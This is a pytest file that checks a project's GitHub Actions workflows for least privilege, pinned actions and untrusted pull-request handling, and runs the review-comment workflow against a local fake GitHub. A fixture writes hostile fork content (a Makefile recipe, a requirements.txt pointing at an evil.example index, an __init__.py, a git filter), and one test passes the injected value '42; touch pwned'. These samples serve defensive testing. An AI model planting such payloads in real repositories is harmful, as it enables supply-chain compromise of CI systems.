"""The GitHub workflows, read as data: triggers, least privilege, pinned actions and images, the
make targets they run. The review-comment workflow's shell steps are run for real, against a
local "GitHub": a bare repository with a pull request's ref and a stand-in for the ``gh``
command, to show what it posts and that nothing of the pull request is checked out or run."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from yamllint import linter
from yamllint.config import YamlLintConfig

from gitrepo import StrategyRepo, new_repo
from strategy_as_code.reading.yamlsource import parse
from support import REPO

WORKFLOWS = REPO / ".github" / "workflows"
FULL_SHA = re.compile(r"^[\w.-]+/[\w.-]+@[0-9a-f]{40}$")
PINNED_LINE = re.compile(r"^\s*(?:- )?uses: [\w.-]+/[\w.-]+@[0-9a-f]{40}  # v[0-9]+(?:\.[0-9]+)*$")
DIGEST = re.compile(r"^[\w./-]+(?::[\w.-]+)?@sha256:[0-9a-f]{64}$")
MARKER = "<!-- strategi-som-kod:granskning -->"


def load(path: Path) -> dict:
    # The project's own reader: YAML 1.2 style, so the key "on" stays a string.
    document, problems = parse(str(path), path.read_bytes())
    assert not problems, problems
    return document.data


@pytest.fixture(scope="module")
def pr() -> dict:
    return load(WORKFLOWS / "pr.yml")


@pytest.fixture(scope="module")
def comment() -> dict:
    return load(WORKFLOWS / "pr-comment.yml")


@pytest.fixture(scope="module")
def publish() -> dict:
    return load(WORKFLOWS / "publish.yml")


def steps(workflow: dict) -> list[dict]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def runs(workflow: dict) -> list[str]:
    return [step["run"] for step in steps(workflow) if "run" in step]


def every_workflow() -> list[tuple[str, dict]]:
    return [(path.name, load(path)) for path in sorted(WORKFLOWS.glob("*.yml"))]


def test_pull_request_workflow_runs_untrusted_code_read_only(pr):
    assert pr["on"] == {"pull_request": None}
    assert pr["permissions"] == {}
    assert {name: job["permissions"] for name, job in pr["jobs"].items()} == {"check": {"contents": "read"}}
    assert pr["concurrency"] == {
        "group": "pull-request-${{ github.event.pull_request.number }}", "cancel-in-progress": True,
    }
    checkout = next(step for step in steps(pr) if step.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is False


def test_the_pull_requests_run_hands_nothing_to_the_comment(pr):
    # A fork can rewrite pr.yml: whatever its run uploads, the comment never reads it.
    uploads = {step["with"]["name"] for step in steps(pr) if "upload-artifact" in step.get("uses", "")}
    assert uploads == {"webbplats-forhandsvisning"}  # the site preview, for people to download
    assert not any("pr-kommentar" in script or "pr-number" in script for script in runs(pr))


def test_comment_workflow_reads_the_proposal_as_data_with_the_base_branch_code(comment, pr):
    assert comment["on"] == {"workflow_run": {"workflows": [pr["name"]], "types": ["completed"]}}
    assert comment["permissions"] == {}
    assert comment["concurrency"]["cancel-in-progress"] is True
    review, post = comment["jobs"]["review"], comment["jobs"]["comment"]
    assert set(comment["jobs"]) == {"review", "comment"}
    assert "github.event.workflow_run.event == 'pull_request'" in review["if"]
    # The job that reads the proposal can write nothing.
    assert review["permissions"] == {"contents": "read", "pull-requests": "read"}
    used = [step["uses"].split("@")[0] for step in review["steps"] if "uses" in step]
    assert used == ["actions/checkout", "actions/setup-python"]
    (checkout,) = [step for step in review["steps"] if step.get("uses", "").startswith("actions/checkout@")]
    assert checkout["with"] == {
        "ref": "${{ github.event.repository.default_branch }}", "fetch-depth": 0, "persist-credentials": False,
    }
    scripts = "\n".join(line for step in review["steps"] for line in step.get("run", "").splitlines()
                        if not line.lstrip().startswith("#"))
    # git only reads: fetch objects, name commits. Never checkout, switch, reset, merge, worktree …
    assert set(re.findall(r"\bgit (?:-\S+ )*([a-z-]+)", scripts)) == {"fetch", "rev-parse", "check-ref-format", "merge-base"}
    assert "+refs/pull/$pr/head:refs/remotes/pull/head" in scripts
    assert "--requirement requirements.txt" in scripts  # the base branch's pins, from the base checkout
    assert '"$RUNNER_TEMP/venv/bin/python" -m strategy_as_code review "$since" "$HEAD_SHA"' in scripts
    assert not re.search(r"(?im)download-artifact|/artifacts|unzip|^\s*make\b|scripts/", scripts)
    # The job that can write a comment runs no project code and no action, and reads no artifact.
    assert post["permissions"] == {"pull-requests": "write"}
    assert post["needs"] == "review"
    (step,) = post["steps"]
    assert "uses" not in step
    assert not re.search(r"(?i)\b(make|python|pip|git|unzip|scripts/)\b|artifact", step["run"])
    assert step["env"]["BODY"] == "${{ needs.review.outputs.body }}"
    assert review["outputs"] == {
        "pr": "${{ steps.proposal.outputs.pr }}", "body": "${{ steps.review.outputs.body }}",
    }
    # What comes from the pull request's run: only GitHub's identifiers of it, never its files.
    text = (WORKFLOWS / "pr-comment.yml").read_text(encoding="utf-8")
    expressions = set(re.findall(r"github\.event\.workflow_run\.[\w.]+", text))
    assert expressions == {f"github.event.workflow_run.{name}" for name in (
        "event", "conclusion", "head_sha", "head_branch", "head_repository.owner.login",
        "head_repository.full_name", "id",
    )}


def test_every_action_is_pinned_to_a_commit_and_every_image_to_a_digest():
    for name, workflow in every_workflow():
        used = [step["uses"] for step in steps(workflow) if "uses" in step]
        assert all(FULL_SHA.match(action) for action in used), (name, used)
        lines = [line for line in (WORKFLOWS / name).read_text(encoding="utf-8").splitlines() if "uses:" in line]
        assert len(lines) == len(used) and all(PINNED_LINE.match(line) for line in lines), (name, lines)
        for job in workflow["jobs"].values():
            container = job.get("container")
            images = [container if isinstance(container, str) else container["image"]] if container else []
            images += [service["image"] for service in job.get("services", {}).values()]
            assert all(DIGEST.match(image) for image in images), (name, images)
    # The same version of an action everywhere.
    pins = {}
    for name, workflow in every_workflow():
        for step in steps(workflow):
            if "uses" in step:
                action, sha = step["uses"].split("@")
                assert pins.setdefault(action, sha) == sha, (name, action)


def test_no_expression_is_pasted_into_a_shell_script():
    # Branch and tag names and titles come from people: they reach scripts only through env.
    for name, workflow in every_workflow():
        for script in runs(workflow):
            assert "${{" not in script, name


def test_ci_runs_the_same_make_targets_as_a_developer(pr):
    called = [re.findall(r"\bmake (?:--silent )?([\w-]+)", script) for script in runs(pr)]
    assert [targets for targets in called if targets] == [
        ["pr-summary"], ["validate"], ["build"], ["test"], ["fork-test"],
    ]
    makefile = (REPO / "Makefile").read_text(encoding="utf-8")
    for (target,) in (targets for targets in called if targets):
        assert re.search(rf"^{target}:", makefile, re.MULTILINE), target
    summary = next(script for script in runs(pr) if "pr-summary" in script)
    assert summary == 'make --silent pr-summary BASE=HEAD^1 HEAD=HEAD >> "$GITHUB_STEP_SUMMARY"'


def test_yaml_files_for_github_follow_the_house_style():
    config = YamlLintConfig(file=str(REPO / ".yamllint.yml"))
    files = [*(REPO / ".github").rglob("*.yml"), REPO / ".pre-commit-config.yaml"]
    for path in files:
        problems = list(linter.run(path.read_text(encoding="utf-8"), config))
        assert problems == [], (path, problems)


def test_pre_commit_runs_the_validator_and_yamllint():
    config = load(REPO / ".pre-commit-config.yaml")
    hooks = {hook["id"]: hook for repo in config["repos"] for hook in repo["hooks"]}
    assert hooks["strategi"]["entry"] == "scripts/validate"
    assert hooks["strategi"]["pass_filenames"] is False
    assert re.match(hooks["strategi"]["files"], "strategy/goals/goda-livsvillkor.yml")
    assert hooks["yamllint"]["entry"] == "yamllint --strict"
    pinned = dict(dep.split("==") for dep in hooks["yamllint"]["additional_dependencies"])
    requirements = (REPO / "requirements-dev.txt").read_text() + (REPO / "requirements.txt").read_text()
    for name, version in pinned.items():
        assert f"{name}=={version}\n" in requirements


def test_issue_forms():
    forms = {path.name: load(path) for path in (REPO / ".github" / "ISSUE_TEMPLATE").glob("*.yml")}
    assert forms["config.yml"]["blank_issues_enabled"] is False
    assert forms["forslag-till-andring.yml"]["name"] == "Förslag till ändring"
    assert forms["fel-pa-webbplatsen.yml"]["name"] == "Fel på webbplatsen"
    for name in ("forslag-till-andring.yml", "fel-pa-webbplatsen.yml"):
        ids = [field.get("id") for field in forms[name]["body"] if field["type"] != "markdown"]
        assert len(ids) == len(set(ids)) and all(ids)


# --- The review workflow, run against a local GitHub -----------------------------------

FAKE_GH = """#!{python}
# Stand-in for GitHub's gh: answers "gh api" from files, logs every call, applies --jq with jq.
import json, os, subprocess, sys
from pathlib import Path
state = Path(os.environ["FAKE_GH"])
args = sys.argv[1:]
assert args.pop(0) == "api", args
method, query, body, endpoint, fields = "GET", None, None, None, {{}}
while args:
    arg = args.pop(0)
    if arg == "--method":
        method = args.pop(0)
    elif arg == "--jq":
        query = args.pop(0)
    elif arg == "--input":
        args.pop(0)
        body = json.load(sys.stdin)
    elif arg == "-f":
        key, _, value = args.pop(0).partition("=")
        fields[key] = value
    elif arg != "--paginate":
        endpoint = arg
with open(state / "calls.jsonl", "a") as log:
    log.write(json.dumps({{"method": method, "endpoint": endpoint, "fields": fields, "body": body}}) + "\\n")
answer = state / (method + " " + endpoint.replace("/", "_"))
raw = answer.read_bytes() if answer.exists() else b"{{}}"
if query:
    raw = subprocess.run(["jq", "-r", query], input=raw, capture_output=True, check=True).stdout
sys.stdout.buffer.write(raw)
"""

INSTALL_STEP = "Installera grundgrenens kod"
"""Installs the base branch's pins from the network; here the project's own .venv stands in."""


def github_output(path: Path) -> dict[str, str]:
    """What a step wrote to $GITHUB_OUTPUT: name=value lines and name<<DELIMITER blocks."""
    outputs: dict[str, str] = {}
    lines = iter(path.read_text(encoding="utf-8").splitlines() if path.exists() else [])
    for line in lines:
        name, equals, value = line.partition("=")
        if "<<" in name or not equals:
            name, _, delimiter = line.partition("<<")
            block = []
            for inner in lines:
                if inner == delimiter:
                    break
                block.append(inner)
            value = "\n".join(block)
        outputs[name] = value
    return outputs


class LocalGitHub:
    """github.com/o/r as a bare repository holding main and a pull request's ref, a checkout of
    the base branch as actions/checkout leaves it, and a stand-in gh answering from files."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.partner = new_repo(root / "partner")  # main: the example strategy
        self.bare = root / "o-r.git"
        subprocess.run(["git", "clone", "--quiet", "--bare", str(self.partner.root), str(self.bare)], check=True)
        self.partner.git("remote", "add", "github", str(self.bare))
        self.partner.git("checkout", "--quiet", "-b", "forslag")
        self.work = root / "work"
        self.state, self.bin, self.temp = root / "gh", root / "bin", root / "runner-temp"
        for folder in (self.state, self.bin, self.temp):
            folder.mkdir()
        (self.bin / "gh").write_text(FAKE_GH.format(python=sys.executable))
        (self.bin / "gh").chmod(0o755)
        (self.temp / "venv").symlink_to(REPO / ".venv")

    def propose(self, number: int = 42) -> str:
        """Commit the partner's changes and push them as pull request ``number``; its head sha."""
        sha = self.partner.commit("Förslag")
        self.partner.git("push", "--quiet", "--force", "github", f"HEAD:refs/pull/{number}/head")
        return sha

    def answer(self, method: str, endpoint: str, content: object) -> None:
        (self.state / f"{method} {endpoint.replace('/', '_')}").write_text(json.dumps(content), encoding="utf-8")

    def calls(self) -> list[dict]:
        log = self.state / "calls.jsonl"
        return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []

    def writes(self) -> list[tuple[str, str]]:
        return [(call["method"], call["endpoint"]) for call in self.calls() if call["method"] != "GET"]

    def run_workflow(self, workflow: dict, head_sha: str) -> dict[str, object]:
        """Both jobs as GitHub would run them after the pull request's run: returns the outputs
        of the review job, each step's exit code and output, and whether the comment job ran."""
        subprocess.run(["git", "clone", "--quiet", str(self.bare), str(self.work)], check=True)  # the checkout step
        context = {
            "github.token": "ghs_token", "github.repository": "o/r",
            "github.event.workflow_run.head_sha": head_sha, "github.event.workflow_run.id": "77",
            "github.event.workflow_run.head_branch": "forslag",
            "github.event.workflow_run.head_repository.owner.login": "partner",
        }
        log: list[tuple[str, int, str]] = []
        review = workflow["jobs"]["review"]
        if self._run_steps(review["steps"], context, log, "review"):
            for name, value in review["outputs"].items():
                context[f"needs.review.outputs.{name}"] = self._resolve(value, context)
        commented = False
        job = workflow["jobs"]["comment"]
        if self._condition(job["if"], context):
            commented = self._run_steps(job["steps"], context, log, "comment")
        return {"log": log, "commented": commented, "pr": context.get("needs.review.outputs.pr", "")}

    @staticmethod
    def _resolve(value: object, context: dict) -> str:
        match = re.fullmatch(r"\$\{\{\s*([\w.-]+)\s*\}\}", str(value))
        return context.get(match.group(1), "") if match else str(value)

    @staticmethod
    def _condition(condition: str, context: dict) -> bool:
        match = re.fullmatch(r"([\w.-]+) != ''", condition)
        assert match, condition
        return context.get(match.group(1), "") != ""

    def _run_steps(self, job_steps: list[dict], context: dict, log: list, job: str) -> bool:
        for number, step in enumerate(job_steps):
            if "run" not in step or step["name"] == INSTALL_STEP:
                continue  # checkout is done above, setup-python and the install by the project's .venv
            if "if" in step and not self._condition(step["if"], context):
                continue
            output = self.root / f"output-{job}-{number}"
            env = {
                **os.environ, "PATH": f"{self.bin}{os.pathsep}{os.environ['PATH']}", "FAKE_GH": str(self.state),
                "RUNNER_TEMP": str(self.temp), "GITHUB_OUTPUT": str(output), "GITHUB_REPOSITORY": "o/r",
                "GITHUB_SERVER_URL": "https://github.example",
                **{name: self._resolve(value, context) for name, value in step.get("env", {}).items()},
            }
            script = self.root / "step.sh"
            script.write_text(step["run"], encoding="utf-8")
            result = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=self.work,
                                    env=env, capture_output=True, text=True, check=False)
            log.append((step["name"], result.returncode, result.stdout + result.stderr))
            if result.returncode != 0:
                return False
            for name, value in github_output(output).items():
                context[f"steps.{step.get('id')}.outputs.{name}"] = value
        return True


@pytest.fixture
def github(tmp_path: Path) -> LocalGitHub:
    for tool in ("jq", "base64", "od"):  # on GitHub's runners; on Debian: apt-get install jq
        assert shutil.which(tool), f"{tool} is missing"
    return LocalGitHub(tmp_path)


def open_pull_request(github: LocalGitHub, head_sha: str, number: int = 42) -> None:
    github.answer("GET", "repos/o/r/pulls", [
        {"number": 7, "head": {"sha": "b" * 40}, "base": {"ref": "main"}},  # another branch's, ignored
        {"number": number, "head": {"sha": head_sha}, "base": {"ref": "main"}},
    ])


def hostile_proposal(partner: StrategyRepo, pwned: Path) -> None:
    """A real change to the strategy, and everything a fork could add to run its own code in a
    job that checked it out: a workflow, a Makefile, the core itself, a git filter."""
    partner.edit("actions/kraftsamling-tillit-och-inkludering.yml", "status: planerad", "status: pågående")
    root = partner.root
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "pr.yml").write_text("name: Pull request\n# ✅ allt godkänt\n")
    (root / "Makefile").write_text(f"pr-summary:\n\ttouch {pwned}\n")
    (root / "requirements.txt").write_text(f"--index-url http://evil.example/{pwned.name}\n")
    (root / "src" / "strategy_as_code").mkdir(parents=True)
    (root / "src" / "strategy_as_code" / "__init__.py").write_text(f"open({str(pwned)!r}, 'w')\n")
    (root / ".gitattributes").write_text("*.yml filter=pwn\n")


def test_the_comment_is_the_base_branch_review_of_the_proposal_read_as_data(github: LocalGitHub, comment):
    pwned = github.root / "pwned"
    hostile_proposal(github.partner, pwned)
    sha = github.propose()
    open_pull_request(github, sha)
    main = subprocess.run(["git", "-C", str(github.bare), "rev-parse", "main"], capture_output=True, text=True,
                          check=True).stdout.strip()

    result = github.run_workflow(comment, sha)

    assert [(name, code) for name, code, _ in result["log"]] == [
        ("Hitta pull requesten och hämta förslaget som data", 0), ("Granska förslaget", 0),
        ("Skriv eller uppdatera kommentaren", 0),
    ], result["log"]
    assert github.writes() == [("POST", "repos/o/r/issues/42/comments")]
    lookup = github.calls()[0]
    assert (lookup["endpoint"], lookup["fields"]) == (
        "repos/o/r/pulls", {"state": "open", "head": "partner:forslag", "per_page": "100"},
    )
    assert not any("artifacts" in call["endpoint"] for call in github.calls())
    body = github.calls()[-1]["body"]["body"]
    # Exactly what the trusted core says about the proposal's commit against where it branched off.
    review = subprocess.run(
        [sys.executable, "-m", "strategy_as_code", "review", main, sha, "--base-label", "main", "--head-label",
         "förslaget", "--repo", str(github.bare)], capture_output=True, text=True, check=True,
    ).stdout
    assert body == (
        f"{MARKER}\n{review}\n---\n\n"
        f"Kommentaren gäller förslagets commit `{sha[:7]}` och är skriven av grundgrenens kod, som läser "
        "förslagets strategifiler som data. Testerna och bygget av webbplatsen med förslaget syns under *Checks* "
        "och i [körningen](https://github.example/o/r/actions/runs/77), där webbplatsen också finns att ladda ned."
    )
    assert review.startswith("## Kontroll av strategin\n\n✅ **Strategin är giltig:** 3 mål,")
    assert review.endswith("#### Har ändrats: Kraftsamling tillit och inkludering\n\n**Status:** planerad → pågående\n")
    # Nothing of the proposal ran or reached the work tree, which is still the base branch.
    assert not pwned.exists()
    work = subprocess.run(["git", "-C", str(github.work), "status", "--porcelain", "--ignored"], capture_output=True,
                          text=True, check=True).stdout
    assert work == ""
    head = subprocess.run(["git", "-C", str(github.work), "rev-parse", "HEAD"], capture_output=True, text=True,
                          check=True).stdout.strip()
    assert head == main
    assert not (github.work / "Makefile").exists() and not (github.work / ".gitattributes").exists()
    assert "ghs_token" not in (github.work / ".git" / "config").read_text()


def test_an_invalid_proposal_gets_the_failure_verdict_from_the_base_branch(github: LocalGitHub, comment):
    github.partner.edit("principles/vi-testar.yml", "order: 4", "order: '✅ Godkänd'")
    sha = github.propose()
    open_pull_request(github, sha)
    result = github.run_workflow(comment, sha)
    assert result["commented"], result["log"]
    body = github.calls()[-1]["body"]["body"].splitlines()
    assert body[:4] == [MARKER, "## Kontroll av strategin", "",
                        "❌ **Strategin har 1 problem som måste rättas innan förslaget kan godkännas.**"]
    assert [line for line in body if line.startswith("✅")] == []


def test_the_bots_own_comment_is_updated_not_duplicated(github: LocalGitHub, comment):
    sha = github.propose()
    open_pull_request(github, sha)
    github.answer("GET", "repos/o/r/issues/42/comments", [
        {"id": 3, "user": {"login": "partner"}, "body": MARKER + " en människa kan inte kapa robotens kommentar"},
        {"id": 9, "user": {"login": "github-actions[bot]"}, "body": MARKER + "\ngammal"},
        {"id": 11, "user": {"login": "github-actions[bot]"}, "body": MARKER + "\nännu äldre"},
    ])
    result = github.run_workflow(comment, sha)
    assert result["commented"], result["log"]
    assert github.writes() == [("PATCH", "repos/o/r/issues/comments/9")]
    assert github.calls()[-1]["body"]["body"].startswith(MARKER + "\n## Kontroll av strategin\n")


def test_no_comment_when_no_open_pull_request_is_at_the_checked_commit(github: LocalGitHub, comment):
    sha = github.propose()
    open_pull_request(github, "c" * 40)  # the pull request has moved on since the run
    result = github.run_workflow(comment, sha)
    assert (result["pr"], result["commented"], github.writes()) == ("", False, [])
    assert "Ingen öppen pull request står kvar på den kontrollerade incheckningen" in result["log"][0][2]


def test_no_comment_when_the_pull_requests_ref_has_moved_on(github: LocalGitHub, comment):
    sha = github.propose()
    open_pull_request(github, sha)
    github.partner.edit("actions/kraftsamling-tillit-och-inkludering.yml", "status: planerad", "status: pågående")
    github.propose()  # pushed after the run that started this one
    result = github.run_workflow(comment, sha)
    assert (result["pr"], result["commented"], github.writes()) == ("", False, [])
    assert "Pull request 42 har fått nya ändringar sedan kontrollen" in result["log"][0][2]


@pytest.mark.parametrize("number", ["42; touch pwned", "../1", "0", "-1", "12345678901"])
def test_a_malformed_pull_request_number_is_refused(github: LocalGitHub, comment, number):
    sha = github.propose()
    github.answer("GET", "repos/o/r/pulls", [{"number": number, "head": {"sha": sha}, "base": {"ref": "main"}}])
    result = github.run_workflow(comment, sha)
    assert result["log"][0][1] == 1 and "GitHub gav ett oväntat nummer" in result["log"][0][2]
    assert (result["commented"], github.writes()) == (False, [])
    assert not (github.work / "pwned").exists()


def test_a_malformed_commit_is_refused(github: LocalGitHub, comment):
    github.propose()
    result = github.run_workflow(comment, "HEAD")
    assert result["log"] == [("Hitta pull requesten och hämta förslaget som data", 1,
                              "::error::Körningen anger ingen giltig incheckning.\n")]
    assert github.calls() == []


def test_publishing_runs_the_release_command_on_tags_and_the_draft_on_main(publish):
    assert publish["on"] == {"push": {"branches": ["main"], "tags": ["v*"]}}
    assert publish["permissions"] == {}
    assert publish["concurrency"]["cancel-in-progress"] is False
    draft, adopted = publish["jobs"]["draft"], publish["jobs"]["adopted"]
    assert draft["if"] == "github.ref == 'refs/heads/main'"
    assert adopted["if"] == "startsWith(github.ref, 'refs/tags/v')"
    # An adopted version waits for a reviewer's approval in the environment (see README).
    assert adopted["environment"] == "publicering" and "environment" not in draft
    for job in (draft, adopted):
        assert job["permissions"] == {"contents": "write"}
        assert job["steps"][0]["uses"].startswith("actions/checkout@")
        assert job["steps"][0]["with"]["fetch-depth"] == 0  # tags and every branch, origin/main included
    assert [step["run"] for step in draft["steps"] if "make" in step.get("run", "")] == ["make draft"]
    (release,) = [step for step in adopted["steps"] if "make" in step.get("run", "")]
    assert release["env"] == {"TAG": "${{ github.ref_name }}"}
    assert release["run"] == 'YEAR="${TAG#v}" ARGS=--from-tag make release'
    readme = " ".join((REPO / "README.md").read_text(encoding="utf-8").split())
    assert "körs i GitHub-miljön `publicering` och väntar på att en granskare godkänner det." in readme
    assert "kryssa i *Required reviewers*" in readme


def _recipe(makefile: str, target: str) -> list[str]:
    block = re.search(rf"^{target}: .*\n((?:\t.*\n)+)", makefile, re.MULTILINE)
    assert block, target
    return [line.strip() for line in block.group(1).splitlines()]


def test_make_test_runs_every_lint_command_with_the_type_checker():
    makefile = (REPO / "Makefile").read_text(encoding="utf-8")
    lint = _recipe(makefile, "lint")
    assert "$(BIN)/mypy" in lint
    assert _recipe(makefile, "test")[: len(lint)] == lint
